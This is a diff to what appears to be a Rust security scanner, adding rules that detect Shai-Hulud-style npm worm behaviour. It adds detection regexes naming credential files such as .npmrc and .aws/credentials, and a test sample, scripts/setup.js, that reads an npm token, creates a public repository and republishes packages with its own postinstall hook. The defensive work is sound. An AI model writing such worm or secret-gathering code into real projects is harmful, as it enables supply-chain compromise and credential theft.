@@ -11,6 +11,10 @@
 //! repos/$r/collaborators/steward-bot -f permission=admin`). Making one repository public, or
 //! inviting a collaborator whose name the user gives (`$1`, `<user>`), is the user's own step.
 //!
+//! Two shapes of the Shai-Hulud worm too: a public repository created through the API in code
+//! that gathers secrets (`POST /user/repos` with `private: false`, then the dump committed to
+//! it), and packages fetched, given a `postinstall` of the code's own and published again.
+//!
 //! Quotation policy: a block presented as an attack (a write-up of the compromise) is a
 //! warning.
 
@@ -28,7 +32,28 @@ pub const TRIGGERS: &[&str] = &[
     "visibility",
     "private=false",
     "collaborators/",
+    "/repos",
+    "npm publish",
 ];
+
+/// A public repository created through the API.
+static PUBLIC_REPO: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(
+        r#"(?is)/(user|orgs/[^/\s'"`]+)/repos\b.{0,300}?(["']?private["']?\s*[:=]\s*false|["']?visibility["']?\s*[:=]\s*["']public)"#,
+    )
+});
+
+/// Secrets gathered in the same code.
+static GATHERS: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(
+        r"(?i)\.npmrc\b|\.pypirc\b|gh\s+auth\s+token|\.aws/credentials|\.ssh/id_|(TOKEN|SECRET|KEY|PASS)\w*\|",
+    )
+});
+
+/// Packages given a `postinstall` of the code's own and published again.
+static WORM: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(r"(?is)postinstall.{0,400}npm\s+publish|npm\s+publish.{0,400}postinstall")
+});
 
 /// A repository made public.
 static EXPOSES: LazyLock<Regex> = LazyLock::new(|| {
@@ -67,6 +92,10 @@ pub static HOME: Home = Home {
     quotation: "a block presented as an attack",
     positive: &[
         Example {
+            rel: "scripts/setup.js",
+            text: "const { execSync } = require('child_process');\nconst fs = require('fs');\nconst npmrc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify({ name: 'sync-data', private: false }) });\nfor (const p of JSON.parse(execSync('npm search --json maintainer:me'))) {\n  execSync(`npm pack ${p.name}`);\n  meta.scripts.postinstall = 'node setup.js';\n  fs.writeFileSync('package/package.json', JSON.stringify(meta));\n  execSync('cd package && npm publish');\n}\n",
+        },
+        Example {
             rel: "scripts/tidy.sh",
             text: "#!/bin/sh\nfor r in $(gh repo list --limit 500 --json nameWithOwner -q '.[].nameWithOwner'); do\n  gh repo edit \"$r\" --visibility public --accept-visibility-change-consequences\ndone\n",
         },
@@ -84,6 +113,10 @@ pub static HOME: Home = Home {
         },
     ],
     negative: &[
+        Example {
+            rel: "scripts/release.sh",
+            text: "#!/bin/sh\nset -eu\nnpm pack --dry-run\nnpm version \"${1:-patch}\"\nnpm publish --provenance --access public\n",
+        },
         Example {
             rel: "scripts/invite.sh",
             text: "#!/bin/sh\n# usage: invite.sh owner/repo user\ngh api -X PUT \"repos/$1/collaborators/$2\" -f permission=push\n",
@@ -138,6 +171,45 @@ pub fn findings(input: &Input<'_>, prefilter: bool) -> Vec<Hit> {
                 excerpt(all.as_str())
             ),
             quoted_at(all.start()),
+        );
+    }
+    if let Some(found) = PUBLIC_REPO.find(text)
+        && GATHERS.is_match(text)
+    {
+        hits.push(
+            &rules::EXFILTRATION,
+            found.start(),
+            format!(
+                "creates a public repository in code that gathers secrets: `{}`",
+                excerpt(found.as_str())
+            ),
+            quoted_at(found.start()),
+        );
+    }
+    // (In code only: a release guide names `postinstall` and `npm publish` in its prose.)
+    let (code, _) = input.units();
+    if let Some(found) = WORM.find_iter(text).find(|m| {
+        code.iter()
+            .any(|u| u.start <= m.start() && m.end() <= u.end)
+    }) && (text.contains("npm pack")
+        || text.contains("maintainer:")
+        || text.contains("npm search"))
+        && [
+            "writeFile",
+            "json.dump",
+            "write_text",
+            "> package.json",
+            "npm pkg set",
+        ]
+        .iter()
+        .any(|w| text.contains(w))
+    {
+        hits.push(
+            &rules::EXFILTRATION,
+            found.start(),
+            "republishes the packages its token can write with a `postinstall` of its own: a worm"
+                .to_owned(),
+            quoted_at(found.start()),
         );
     }
     for found in ALL_SECRETS.find_iter(text) {
